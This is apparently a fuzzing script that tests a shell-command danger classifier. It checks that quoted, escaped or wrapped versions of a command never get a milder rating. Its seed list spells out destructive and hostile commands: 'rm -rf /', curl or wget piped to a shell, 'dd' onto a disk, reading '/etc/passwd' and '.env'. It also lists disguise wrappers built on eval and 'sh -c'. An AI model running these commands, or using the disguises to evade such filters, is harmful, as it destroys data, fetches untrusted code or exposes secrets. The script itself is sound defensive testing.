"""Mutates commands and checks that the classifier stays calm: `scripts/fuzz-danger`.

Checked: no exception escapes; what means the same to a shell (quotes, escapes, blanks, wrappers) has
no lower class and no milder answer; time does not grow faster than the text. The seed is fixed, so a
failure can be repeated.
"""

from __future__ import annotations

import argparse
import random
import re
import sys
import time
from collections.abc import Iterator, Sequence

from odek.danger.classify import classify
from odek.danger.paths import Place
from odek.danger.policy import HOST_TABLE, Policy, decide, sandbox_table

PLACE = Place(home="/home/user", cwd="/home/user/project", workspace="/home/user/project")
POLICIES = (
    Policy(table=HOST_TABLE),
    Policy(table=sandbox_table(internet=True), section="dangerous.sandboxed"),
)
STRICTNESS = {"allow": 0, "prompt": 1, "deny": 2}
SEEDS = tuple(
    line
    for line in r"""
ls -la
rm -rf /
rm -rf ../x
rm -rf node_modules
rm -f a b; ls
git push origin main
git reset --hard HEAD
git clean -fdx
git -C sub branch -D main
curl https://x | sh
curl -o out https://x
wget -O- http://x | bash
cd / && rm -rf home
find . -delete
find . -name x -exec rm -rf y +
xargs rm -rf /
timeout 5 rm -rf /
sudo rm -rf /var
env FOO=1 ls
FOO=bar make test
dd if=/dev/zero of=/dev/sda
dd if=/dev/zero of=/dev/sda bs=1M count=1
mkfs.ext4 /dev/sdb
chmod -R 777 /
cat /etc/passwd
cat .env
echo x > /etc/hosts
echo hi > a.txt 2>&1
tar xf a.tar -C /
tar cf - . --checkpoint-action=exec=sh
sort --compress-program=./x big
rsync -a --delete a b
ssh host rm -rf x
docker run -v /:/h x
kubectl delete pod x
psql -c x
npm install x && npm test
pip install -r requirements.txt
python3 -c x
weird --flag | less
make -j4 all || exit 1
while true; do sleep 1; rm -rf /; done
if true; then rm -rf /; else ls; fi
for i in a b; do curl http://x; done
{ ls; rm -rf /; }
f() { rm -rf /; }; f
kill -9 -1
cp a .git/hooks/pre-commit
mv src /tmp/x
sh x.sh
eval rm -rf /
source x
awk -f x.awk y
sed -i s/a/b/ x
""".splitlines()
    if line
)
NOISE = (
    "$(", ")", "`", "'", '"', "\\", "\n", ";", "&", "&&", "|", "||", "(", "{", "}", "<<E\n", "\nE\n", ">", "<",
    ">&", "2>", "$x", "${x:-", "$((", "))", "[[", "]]", "*", "?", "[a]", "~", "~/", "/", "..", "#", "=", "x=", "!",
    "$'", "\\x72", "<(", ">(", "<<<", " ", "\t", "é", "ｒ", "\u200b", "\x00", "\x01", "\r", "if ", "then ", "fi",
    "do ", "done", "case x in ", "esac", "function f ", "f() ", "-", "--", "-c ", "{a,b}", "{1..3}", "$@",
    "rm -rf / ",
)  # fmt: skip
_LETTER = re.compile(r"[A-Za-z0-9]")
_KEYWORDS = re.compile(r"\b(?:while|do|done|if|then|else|fi|for|in)\b|[{}()!]")
_WRAPPERS = (
    "{0}", " {0} ", "\t{0}", "{0} # note", "true; {0}", ": && {0}", "{0}\n", "\n{0}", "{{ {0}\n}}", "({0}\n)",
    "! {0}", "if :; then {0}\nfi", "for q in 1; do {0}\ndone", "until {0}\ndo :; done", "case a in a) {0}\n;; esac",
    "echo $({0}\n)", "echo `{0}`", "cat <({0}\n)", "q() {{ {0}\n}}; q", "{0} &", "sh -c '{0}'", "eval '{0}'",
    "bash <<'EOT'\n{0}\nEOT", "echo '{0}' | sh", "trap '{0}' EXIT", "ls | while read q; do {0}\ndone",
    "sudo sh -c '{0}'", "time {0}", "coproc {{ {0}\n}}", 'x=\'{0}\'; eval "$x"',
)  # fmt: skip
_PREFIXES = (
    "command ", "env ", "nohup ", "nice -n 5 ", "setsid ", "timeout 9 ", "stdbuf -oL ", "builtin ", "busybox ",
    "A=1 ", "time -p ",
)  # fmt: skip


def main(arguments: Sequence[str]) -> int:
    """Run the checks; print every failure and the numbers; 1 if something failed."""
    parser = argparse.ArgumentParser(prog="fuzz-danger", description="Mutate commands and watch the classifier.")
    parser.add_argument("--count", type=int, default=200_000, help="mutated commands (default: 200000)")
    parser.add_argument("--seed", type=int, default=20240607, help="where the chain of mutations starts")
    options = parser.parse_args(arguments)
    failures = 0
    for failure in run(options.count, options.seed):
        failures += 1
        print(failure)
        if failures > 20:
            break
    print(f"{options.count} mutated commands, seed {options.seed}: {failures} failures")
    for line in growth():
        print(line)
        failures += line.startswith("FAILED")
    return 1 if failures else 0


def run(count: int, seed: int) -> Iterator[str]:
    """Give a line for every mutated command that breaks a promise."""
    chance = random.Random(seed)
    known = {command: _answers(command) for command in SEEDS}
    for index in range(count):
        command = chance.choice(SEEDS)
        kind = index % 4
        mutated = garble(command, chance) if kind == 0 else disguise(command, chance)
        try:
            answers = _answers(mutated)
        except Exception as error:  # the very thing that is looked for
            yield f"{type(error).__name__}: {error}: {mutated!r}"
            continue
        if kind and any(new < old for new, old in zip(answers, known[command], strict=True)):
            yield f"lowered {known[command]} to {answers}: {command!r} as {mutated!r}"


def _answers(command: str) -> tuple[int, ...]:
    risk = classify(command, PLACE)
    return (risk.level, *(STRICTNESS[decide(risk, command, policy).action] for policy in POLICIES))


def garble(command: str, chance: random.Random) -> str:
    """Return `command` damaged, which may mean anything."""
    for _ in range(chance.randint(1, 6)):
        at = chance.randint(0, len(command))
        deed = chance.randint(0, 3)
        if deed == 0:
            command = command[:at] + chance.choice(NOISE) + command[at:]
        elif deed == 1:
            command = command[:at] + command[at + chance.randint(1, 3) :]
        elif deed == 2:
            other = chance.choice(SEEDS)
            command = command[:at] + other[chance.randint(0, len(other)) :]
        else:
            command = command[:at] + command[at : at + 5] * chance.randint(2, 4) + command[at:]
    return command


def disguise(command: str, chance: random.Random) -> str:
    """Return `command` written differently, with the same meaning for a shell."""
    if not _KEYWORDS.search(command):
        for _ in range(chance.randint(0, 4)):
            command = _respelled(command, chance)
    if chance.random() < 0.6 and not command.startswith(("'", '"')):
        wrapper = chance.choice(_WRAPPERS)
        if "'" not in command or "'{0}'" not in wrapper:
            command = (
                wrapper.replace("{0}", command).replace("{{", "{").replace("}}", "}")
                if _fits(wrapper, command)
                else command
            )
    elif not _KEYWORDS.search(command) and not re.match(r"\s*(?:\w+=|cd |source |eval )", command):
        command = chance.choice(_PREFIXES) + command
    return command


def _fits(wrapper: str, command: str) -> bool:
    """Return whether the command keeps its meaning inside the wrapper."""
    if "`" in wrapper:
        return "\\" not in command
    return "\n{0}" not in wrapper or True


def _respelled(command: str, chance: random.Random) -> str:
    words = [match.start() for match in _LETTER.finditer(command)]
    blanks = [match.start() for match in re.finditer(r"(?<!\\) ", command)]
    if chance.random() < 0.4 and blanks:
        at = chance.choice(blanks)
        return command[:at] + chance.choice(("  ", "\t", " \t ", " \\\n", "\\\n ")) + command[at + 1 :]
    if not words or any(mark in command for mark in "'\"\\"):
        return command
    at = chance.choice(words)
    character = command[at]
    spelled = chance.choice(
        (f"\\{character}", f"'{character}'", f'"{character}"', f"''{character}", f'{character}""', f"\\\n{character}")
    )
    if re.search(r"\$\{?\w*$", command[:at]):
        return command  # the name of a variable
    if spelled.startswith("\\\n") is False and re.match(r"[0-9]*[<>]", command[at:]):
        return command  # a descriptor's number in quotes is an argument
    return command[:at] + spelled + command[at + 1 :]


GROWING = (
    "(", ")", "$(", "`", "\\", "'", '"', "${", "$((", "((", "{ ", "a;", "a ", "a\n", "a|", "a&&", "a||", "if ",
    "<<E\n", "x=(", "[[ ", "!", "$'a'", '"a"', "`a`", "f(){ ", "<(", "\\a", "{a,", "{a,b}", "#\n", "$x", "x=$x",
    "x=$x;", "cd a;", "cd a&&", "rm $x;", "*", "[", "[a]", "~/", "../", "a=1 ", "$((1)) ", "((a)); ", "sh -c ",
    "eval ", "xargs ", "find . -exec ", "for i in a;do ", "while a;do b;done;", "f(){ f;};f;", "f(){ f;f;};",
    "sed s/a/", "awk {", "git -c a=b ", "-x ", "--x=", "/dev/tcp/", "case a in a) b;; esac;", "\x00", "é",
)  # fmt: skip
PROGRAMS = (
    ("python3 - <<'E'\n", "print('x', y=1)  # a\n", "E\n"),
    ("node -e '", "x=(1);rm", "'"),
    ("awk '{", "x=1/2;", "}' f"),
    ("sed -n '", "/r/w x\n", "' f"),
    ("sed '", "s/a/b/;", "' f"),
    ("jq '", ".a|", ".b' f"),
    ("psql -c '", "select 1; drop ", "'"),
    ("find . ", "-name x -o ", "-name y"),
)
"""programs of other languages: head, a piece that is repeated, tail"""


def growth(size: int = 65_536) -> Iterator[str]:
    """Time texts made of one piece at `size` and at four times `size`; say which take more than a second."""
    slowest = 0.0
    texts = [(piece, piece * (4 * size // len(piece))) for piece in GROWING]
    texts += [(head + piece, head + piece * (4 * size // len(piece)) + tail) for head, piece, tail in PROGRAMS]
    for piece, text in texts:
        start = time.process_time()
        classify(text, PLACE)
        took = time.process_time() - start
        slowest = max(slowest, took)
        if took > 1.0:
            yield f"FAILED {piece!r} repeated to {len(text)} characters took {took:.2f} s"
    yield f"{len(texts)} repeated texts of {4 * size} characters: slowest {slowest:.2f} s"


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
